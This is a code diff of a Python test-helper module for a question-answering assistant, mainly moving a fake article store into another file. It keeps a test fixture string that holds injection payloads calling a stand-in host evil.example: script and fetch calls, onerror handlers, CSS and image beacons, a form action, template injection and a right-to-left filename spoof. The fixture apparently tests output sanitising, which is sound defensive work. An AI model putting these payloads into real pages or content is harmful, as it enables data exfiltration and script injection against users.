@@ -1,31 +1,29 @@
-"""A library in memory and an assistant that says what it is told to, in the shapes of the real ones.
+"""An assistant that says what it is told to, in the shape of the real one.
 
-What it finds, it finds by shared words; the sentences it cites stand at the offsets it names. Answers that a
+The sentences it cites stand at the offsets it names. Answers that a
 real model gives only sometimes (a refusal, a half-supported sentence) are asked for by a word in the question.
 """
 
 from __future__ import annotations
 
-import builtins
 import re
 import threading
-from collections.abc import Iterable, Iterator, Sequence
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
 from datetime import date
 from pathlib import Path
 from typing import TYPE_CHECKING, Any, Literal, cast
 
-from index.problem import Problem
-from index.search import checked_question
-from index.sentences import split_sentences
-from index.types import AddReport, Article, Chunk, Filters, Passage, Row, Span
+from index.types import Article, Filters, Passage, Span
 from qa.settings import Settings
 from qa.types import Answer, Citation, Delta, Event, Retrieved, Rewritten, Sentence, Timings
+from tests.page.fake_articles import ALL, FakeArticles
 
 if TYPE_CHECKING:
     from qa.assistant import Assistant
 
-ALL = Filters()
+__all__ = ["HOSTILE", "FakeArticles", "FakeAssistant", "real", "seeds", "span"]
+
 HOSTILE = (
     "The vault holds ![x](https://evil.example/md.png) seven keys. <img src=https://evil.example/i.png onerror=alert(1)>\n\n"
     "<script>fetch('https://evil.example/s')</script><style>body{background:url(https://evil.example/c)}</style>\n\n"
@@ -34,88 +32,6 @@ HOSTILE = (
     "<form action=https://evil.example/f><input name=q></form> "
     "${fetch('https://evil.example/t')} {{constructor}} <b onclick=1>bold</b> \u202egnp.exe"
 )
-
-
-class FakeArticles:
-    """Keeps articles in a dictionary; a passage is a paragraph."""
-
-    def __init__(self, articles: Sequence[Article] = ()) -> None:
-        self.kept = {a.id: a for a in articles}
-        self.read: list[str] = []  # what each uploaded file held while it was there
-
-    def add_articles(self, articles: Iterable[Article | tuple[str, str]], progress: object = None, total: int = 0) -> AddReport:
-        added, failed = [], []
-        for item in articles:
-            if isinstance(item, tuple):
-                failed.append(item)
-            else:
-                self.read.append(item.text)
-                added.append(self._keep(item.title, item.text, item.source, item.published))
-        return AddReport(added=len(added), failed=tuple(failed), articles=tuple((a.id, a.title, len(chunks(a))) for a in added))
-
-    def add_text(
-        self,
-        text: str,
-        *,
-        title: str | None,
-        source: str | None,
-        author: str | None = None,
-        published: date | None = None,
-        origin: str = "pasted",
-    ) -> AddReport:
-        article = self._keep(title or text[:40], text, source, published)
-        return AddReport(added=1, articles=((article.id, article.title, len(chunks(article))),))
-
-    def _keep(self, title: str, text: str, source: str | None, published: date | None) -> Article:
-        article = Article(f"a{len(self.kept) + 1}", title, text, source, published=published)
-        self.kept[article.id] = article
-        return article
-
-    def remove(self, ids: Sequence[str]) -> int:
-        return sum(self.kept.pop(i, None) is not None for i in ids)
-
-    def list(self) -> builtins.list[Row]:
-        return [
-            Row(a.id, a.title, a.source, a.author, a.url, a.published, a.added, len(a.text), len(chunks(a)), "indexed", a.origin)
-            for a in self.kept.values()
-        ]
-
-    def get(self, article_id: str) -> Article:
-        if article_id not in self.kept:
-            raise Problem("There is no such article.")
-        return self.kept[article_id]
-
-    def counts(self) -> tuple[int, int]:
-        return len(self.kept), sum(len(chunks(a)) for a in self.kept.values())
-
-    def search(self, question: str, filters: Filters = ALL, top_k: int | None = None) -> builtins.list[Passage]:
-        question = checked_question(question)
-        asked = bag(question)
-        found = []
-        for article in self.kept.values():
-            if filters.sources and article.source not in filters.sources:
-                continue
-            for chunk in chunks(article):
-                sentences = split_sentences(chunk.text, chunk.start)
-                best = max(sentences, key=lambda s: len(asked & bag(s.text)))
-                shared = len(asked & bag(chunk.text + " " + article.title))
-                if shared:
-                    found.append((shared / len(asked), article, chunk, best))
-        found.sort(key=lambda f: -f[0])
-        return [
-            Passage(
-                c,
-                a.title,
-                a.source,
-                a.url,
-                a.published,
-                rank,
-                min(1.0, share),
-                b,
-                ("Tidewater Courier",) if "Ever Given" in a.title else (),
-            )
-            for rank, (share, a, c, b) in enumerate(found[: top_k or 6], 1)
-        ]
 
 
 class FakeAssistant:
@@ -227,17 +143,6 @@ class FakeAssistant:
 def real(fake: FakeAssistant) -> Assistant:
     """The fake where the real one is asked for."""
     return cast("Assistant", fake)
-
-
-def chunks(article: Article) -> list[Chunk]:
-    return [
-        Chunk(f"{article.id}-{n}", article.id, n, m.start(), m.end(), m[0])
-        for n, m in enumerate(re.finditer(r"[^\n]+(?:\n[^\n]+)*", article.text))
-    ]
-
-
-def bag(text: str) -> set[str]:
-    return {w for w in re.findall(r"\w+", text.casefold()) if len(w) > 2}
 
 
 def span(text: str, words: str) -> Span:
